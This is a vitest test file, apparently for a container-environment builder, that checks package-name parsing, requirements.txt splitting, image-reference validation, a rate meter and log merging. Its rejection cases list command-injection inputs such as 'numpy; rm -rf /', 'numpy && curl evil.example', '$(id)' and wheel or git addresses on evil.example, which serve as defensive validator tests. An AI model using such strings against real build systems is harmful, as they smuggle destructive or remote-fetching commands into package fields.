import { expect, test } from 'vitest';
import { inputOf, lineIn, nameBeside, nothing, wishOf } from './buildInput';
import { empty, grown, linesOf } from './log';
import { packageOf, split } from './packages';
import { Rate } from './rate';
import { faultOf } from './reference';

test.each([
  ['numpy', 'numpy'],
  ['pandas == 2.2.3', 'pandas==2.2.3'],
  ['scikit-learn>=1.5,<2', 'scikit-learn>=1.5,<2'],
  ['uvicorn [standard] ~= 0.30', 'uvicorn[standard]~=0.30'],
  ['torch==2.4.0+cpu', 'torch==2.4.0+cpu'],
  ['x', 'x'],
  ['django==5.*', 'django==5.*'],
])('P12 a Python package: %s', (text, sent) => {
  expect(packageOf(text, 'python')).toBe(sent);
});
test.each([
  '-r more.txt',
  '--index-url=http://evil.example',
  'numpy; rm -rf /',
  'numpy && curl evil.example',
  'numpy\nRUN id',
  '$(id)',
  '`id`',
  'numpy @ https://evil.example/numpy.whl',
  'git+https://evil.example/x',
  './local',
  'numpy==',
  'número',
  '',
])('P12 no Python package: %s', (text) => {
  expect(packageOf(text, 'python')).toBeUndefined();
});
test.each(['git', 'libgl1', 'g++', 'python3.11-dev', 'curl=7.88.1-10+deb12u5', 'tzdata=2024a-0+deb12u1'])(
  'P12 a system package: %s',
  (text) => {
    expect(packageOf(text, 'system')).toBe(text);
  },
);
test.each(['-y', 'Git', 'git;id', 'git curl', 'git\nid', './x.deb', 'git=$(id)', ''])('P12 no system package: %s', (text) => {
  expect(packageOf(text, 'system')).toBeUndefined();
});

test('a requirements.txt is split into packages, and each line that is not taken is told', () => {
  const file = [
    '# what we need',
    'numpy==2.1.0  # pinned',
    '',
    'pandas >= 2, < 3',
    '-r more.txt',
    '--index-url https://pypi.example/simple',
    'tool @ https://example.org/tool.whl',
    'git+https://example.org/x.git#egg=x',
    'pywin32; sys_platform == "win32"',
    'numpy==2.1.0',
    'requests==2.32.3 \\',
    '    --hash=sha256:0000',
    'what is this?',
  ].join('\r\n');
  expect(split(file, 'python')).toEqual({
    packages: ['numpy==2.1.0', 'pandas>=2,<3', 'requests==2.32.3'],
    refused: [
      { line: 5, text: '-r more.txt', why: 'option' },
      { line: 6, text: '--index-url https://pypi.example/simple', why: 'option' },
      { line: 7, text: 'tool @ https://example.org/tool.whl', why: 'address' },
      { line: 8, text: 'git+https://example.org/x.git#egg=x', why: 'address' },
      { line: 9, text: 'pywin32; sys_platform == "win32"', why: 'marker' },
      { line: 13, text: 'what is this?', why: 'form' },
    ],
  });
});
test('several names on a line are several packages', () => {
  expect(split('numpy pandas, scipy', 'python').packages).toEqual(['numpy', 'pandas', 'scipy']);
  expect(split('git, curl  libgl1', 'system').packages).toEqual(['git', 'curl', 'libgl1']);
});

test.each([
  ['', undefined],
  ['python:3.12', undefined],
  ['quay.io/jupyter/minimal-notebook', undefined],
  ['localhost:5000/a/b__c:1.0@sha256:' + 'a'.repeat(64), undefined],
  ['python 3.12', 'spaces'],
  ['https://hub.example/python', 'scheme'],
  ['example.org/Team/app:1', 'upper'],
  ['a'.repeat(300), 'long'],
  ['a/../b', 'shape'],
  ['python:', 'shape'],
] as const)('D26 what is wrong with the reference %j', (text, fault) => {
  expect(faultOf(text)).toBe(fault);
});

test('a rate is that of the last seconds', () => {
  const rate = new Rate();
  expect(rate.perSecond(0)).toBeUndefined();
  rate.add(0, 0);
  expect(rate.perSecond(0)).toBeUndefined();
  rate.add(1000, 1000);
  expect(rate.perSecond(1000)).toBe(1000);
  for (let second = 2; second <= 20; second++) rate.add(second * 5000, second * 1000);
  expect(rate.perSecond(20_000)).toBe(5000);
  // What another subscription tells a little later changes nothing.
  rate.add(99_000, 20_100);
  expect(rate.perSecond(20_100)).toBe(5000);
  // Nothing more comes: it falls.
  expect(rate.perSecond(40_000)).toBeLessThan(2000);
  // Another tag, from the beginning.
  rate.add(10, 41_000);
  expect(rate.perSecond(41_000)).toBeUndefined();
});

const line = (number: number) => ({ number, text: `line ${String(number)}`, at: '2026-11-24T08:15:00.000Z' });
const lines = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => line(from + i));
test('a log that is sent anew after a reconnection shows every line once, in order', () => {
  let log = grown(empty, lines(1, 900));
  expect(log.chunks.length).toBe(3);
  const before = log;
  log = grown(log, lines(1, 900));
  expect(log).toBe(before);
  log = grown(log, lines(850, 1300));
  expect(linesOf(log).map(({ number }) => number)).toEqual(lines(1, 1300).map(({ number }) => number));
  expect(log.last).toBe(1300);
  // What was full is the same object, and is not drawn again.
  expect(log.chunks[0]).toBe(before.chunks[0]);
});

test('D23 a copy gets a name beside the one that is taken', () => {
  expect(nameBeside('env')).toBe('env 2');
  expect(nameBeside('env 2')).toBe('env 3');
  expect(nameBeside('数据分析')).toBe('数据分析 2');
  expect(Array.from(nameBeside('界'.repeat(64)))).toHaveLength(64);
});

const built = { reference: 'env', dockerfile: 'FROM x', form: null, minCpu: 0.5, minMemory: 512 * 1024 * 1024, minGpu: 0 };
test('what failed is edited under its own name, what is there is copied beside it', () => {
  expect(wishOf({ ...built, status: 'FAILED' }).wish).toEqual({ ...nothing, name: 'env', way: 'dockerfile', dockerfile: 'FROM x' });
  const form = { base: 'slim', preset: null, packages: ['numpy'], systemPackages: ['git'] };
  const { wish, minima } = wishOf({ ...built, status: 'READY', form });
  expect(wish).toEqual({ ...nothing, name: 'env 2', base: 'slim', packages: ['numpy'], systemPackages: ['git'] });
  expect(minima).toEqual({ minCpu: 0.5, minMemoryMiB: 512, minGpu: 0 });
});
test('a Dockerfile and the fields of the form are never sent together', () => {
  const wish = { ...nothing, name: ' env ', base: 'slim', preset: 'jupyter', packages: ['numpy'], dockerfile: 'FROM x' };
  expect(inputOf(wish, {})).toEqual({ name: 'env', base: 'slim', preset: 'jupyter', packages: ['numpy'], systemPackages: [] });
  expect(inputOf({ ...wish, way: 'dockerfile' }, { minMemoryMiB: 512 })).toEqual({
    name: 'env',
    dockerfile: 'FROM x',
    minMemory: 512 * 1024 * 1024,
  });
});
test('the line that a message names', () => {
  expect(lineIn('Line 3: ADD of a URL is refused.')).toBe(3);
  expect(lineIn('The step failed.')).toBeUndefined();
});
